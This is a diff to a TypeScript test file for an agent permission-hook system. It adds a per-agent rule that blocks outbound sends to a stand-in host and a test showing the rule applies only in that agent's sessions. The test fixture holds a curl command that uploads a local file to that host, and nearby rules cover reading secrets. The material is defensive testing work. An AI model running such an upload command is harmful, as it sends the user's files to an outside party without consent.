@@ -14,6 +14,13 @@ import { HOST_NAMES, type HostName, hostNamed, type KnownHost } from '../../src/
 const RULES = [
   { id: 'no-keys', effects: ['read', 'write', 'delete'], of: ['secrets'], then: 'deny' },
   { id: 'out', effects: ['send'], except: ['localhost'], then: 'ask' },
+  {
+    id: 'codex-out',
+    effects: ['send'],
+    of: ['only-codex.example'],
+    then: 'deny',
+    in: { agents: ['codex'] },
+  },
   { id: 'force', effects: ['git'], where: { loses: 'history' }, then: 'deny' },
 ]
 
@@ -87,6 +94,19 @@ describe.each(HOST_NAMES)('in the dialect of %s', (host) => {
       outcomes.map((outcome) => ({ ...outcome, action: 'continue' as const })),
     )
     if (expected === 'deny') expect(answerFor(host, event, outcomes)).not.toEqual(open)
+  })
+})
+
+describe('a rule for one agent', () => {
+  it('counts in its sessions alone', async () => {
+    const call = { tool_name: 'Bash', tool_input: { command: 'curl -d @a https://only-codex.example' } }
+    const actionIn = async (agent: string | undefined) => {
+      const session = hooks.session({ id: `agent-${agent}`, cwd: project, ...(agent && { agent }) })
+      return (await session.fire('PreToolUse', call)).action
+    }
+    expect(await actionIn('codex')).toBe('deny')
+    expect(await actionIn('gemini')).toBe('ask_user')
+    expect(await actionIn(undefined)).toBe('deny')
   })
 })
 
